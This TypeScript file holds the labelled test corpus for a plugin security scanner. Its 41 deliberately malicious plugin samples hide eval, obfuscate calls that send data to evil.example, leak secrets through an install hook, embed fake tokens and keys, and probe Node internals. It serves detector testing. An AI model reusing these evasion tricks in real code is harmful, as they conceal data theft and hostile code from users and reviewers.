// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these texts are code of plugins.
import type { FamilyId } from './rules/families.ts';
import { type Labelled, MALICIOUS } from './test-corpus.ts';

const { manifest } = MALICIOUS[0]!.release;
const bad = (family: FamilyId, name: string, body: string): Labelled => ({
  name,
  release: {
    manifest,
    code: `(() => {\n${body}\nglobalThis.__gatehouse_define(typeof plugin === "undefined" ? {} : plugin);\n})();\n`,
    sourceMap: null,
  },
  family,
});
const route = (body: string) =>
  `var plugin = { routes: { "GET /": async (request, { kv, log, secrets }) => {\n${body}\n} } };`;
const encoded = Buffer.from('fetch("https://evil.example/" + JSON.stringify(globalThis))').toString('base64');

/**
 * The same families, written by somebody who had not read the detectors: of these 41 they found 28 at first (recall 0.68). They stay here
 * so that what was learnt from them stays learnt; the next measurement needs new ones.
 */
export const VARIANTS: readonly Labelled[] = [
  bad('dynamic-code', 'Function by Reflect', route('return Reflect.construct(Function, ["return 1"])();')),
  bad('dynamic-code', 'eval behind a comma', route('return (0, eval)("1");')),
  bad('dynamic-code', 'eval out of a list', route('const f = [globalThis["ev" + "al"]][0]; return f("1");')),
  bad('dynamic-code', 'eval taken apart', route('const { eval: run } = globalThis; return run("1");')),
  bad('dynamic-code', 'a timer with a name for text', route('const text = "log(1)"; setTimeout(text, 1);')),
  bad('dynamic-code', 'WebAssembly', route('return WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109]));')),
  bad(
    'constructor-chain',
    'the maker of async code',
    route('const A = (async () => {}).constructor; return new A("return 1")();'),
  ),
  bad(
    'constructor-chain',
    'the maker of generators',
    route('return Object.getPrototypeOf(function* () {}).constructor("yield 1")().next();'),
  ),
  bad(
    'obfuscation',
    'code in base64',
    `const b = atob("${encoded}");\n${route('return (() => {}).constructor(b)();')}`,
  ),
  bad('prototype-tampering', '__proto__ of an own object', route('const x = {}; x.__proto__.polluted = 1; return 1;')),
  bad('prototype-tampering', '__proto__ out of parts', route('const o = {}; o["__pro" + "to__"]["x"] = 1; return 1;')),
  bad(
    'prototype-tampering',
    'a defined method of arrays',
    `Object.defineProperty(Array.prototype, "map", { value: () => [] });\n${route('return 1;')}`,
  ),
  bad('global-tampering', 'JSON by assign', `Object.assign(JSON, { stringify: () => "" });\n${route('return 1;')}`),
  bad(
    'global-tampering',
    'fetch by another name of the global object',
    `const g = globalThis; g.fetch = () => {};\n${route('return 1;')}`,
  ),
  bad(
    'undeclared',
    'a host in a template',
    route('const d = "collector"; return fetch(`https://${d}.evil.example/x`);'),
  ),
  bad('undeclared', 'a host that is joined', route('return fetch(["https:/", "evil.example", "x"].join("/"));')),
  bad('undeclared', 'a host backwards', route('return fetch("elpmaxe.live//:sptth".split("").reverse().join(""));')),
  bad(
    'undeclared',
    'a host in numbers',
    route(
      'return fetch(String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101));',
    ),
  ),
  bad(
    'undeclared',
    'a host in percent signs',
    route('return fetch(decodeURIComponent("%68%74%74%70%73%3a%2f%2fevil.example"));'),
  ),
  bad('undeclared', 'a host in a Request', route('const r = new Request("https://evil.example/a"); return fetch(r);')),
  bad(
    'undeclared',
    'a URL that is turned elsewhere',
    route('const u = new URL("https://api.example.com"); u.hostname = "evil.example"; return fetch(u);'),
  ),
  bad(
    'hard-coded-secret',
    'a token of GitHub',
    `const t = "ghp_${'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'}";\n${route('return t;')}`,
  ),
  bad(
    'hard-coded-secret',
    'a private key',
    `const k = "-----BEGIN PRIVATE KEY-----\\nMC4CAQAwBQYDK2VwBCIEI${'J1hsZ3v/VpguoRK9JLsLMREScVpezJpGXA7rAMcrn9g'}\\n-----END PRIVATE KEY-----";\n${route('return k;')}`,
  ),
  bad(
    'hard-coded-secret',
    'a password in an address',
    `const u = "postgres://admin:${'S3cr3tPass9'}@db.internal.example/prod";\n${route('return u;')}`,
  ),
  bad('slow-pattern', 'nested repetition', route('return /^(a+)+$/.test(request.url);')),
  bad('slow-pattern', 'a pattern that is made', route('return new RegExp("^(\\\\w+\\\\s?)*$").test(request.url);')),
  bad(
    'mining',
    'the protocol of a pool',
    route('return fetch("https://api.example.com", { body: "stratum+tcp://pool.example:3333" });'),
  ),
  bad(
    'mining',
    'a search for a hash',
    route(
      'let n = 0; while (true) { const h = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(String(n++))); if (new Uint8Array(h)[0] === 0) break; } return n;',
    ),
  ),
  bad('hidden-characters', 'a joiner of no width', `var a\u200cb = 1;\n${route('return 1;')}`),
  bad('hidden-characters', 'a comment that runs backwards', `/* \u202e } \u2066 if (admin) */\n${route('return 1;')}`),
  bad('hidden-characters', 'a letter of another script', `var f\u0435tch2 = 1;\n${route('return f\u0435tch2;')}`),
  bad('host-probing', 'files of Node.js, imported', route('const n = "node:" + "fs"; return import(n);')),
  bad('host-probing', 'processes of Node.js, asked for', route('return globalThis.require?.("child_process");')),
  bad('host-probing', 'bindings of Node.js', route('return process.binding("fs");')),
  bad(
    'host-probing',
    'the frames of callers',
    `Error.prepareStackTrace = (e, s) => s;\n${route('return new Error().stack[0].getThis();')}`,
  ),
  bad('host-probing', 'the function that calls', route('return (function () { return arguments.callee.caller; })();')),
  bad(
    'install-behaviour',
    'secrets that are sent at once',
    'var plugin = { hooks: { install: async (event, { secrets }) => { await fetch("https://api.example.com/x", { method: "POST", body: JSON.stringify(secrets) }); } } };',
  ),
  bad('licence', 'GPL in one line', `/*! foo v1 | GPL-3.0 */\n${route('return 1;')}`),
  bad('licence', 'AGPL in a block', `/**\n * @license AGPL-3.0-only\n */\n${route('return 1;')}`),
  bad(
    'obfuscation',
    'the head of a packer',
    `eval(function(p,a,c,k,e,d){return p}("0 1",2,2,"a|b".split("|"),0,{}));\n${route('return 1;')}`,
  ),
  bad(
    'obfuscation',
    'nothing but signs',
    route('return [][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(![]+[])[!+[]+!+[]]];'),
  ),
];
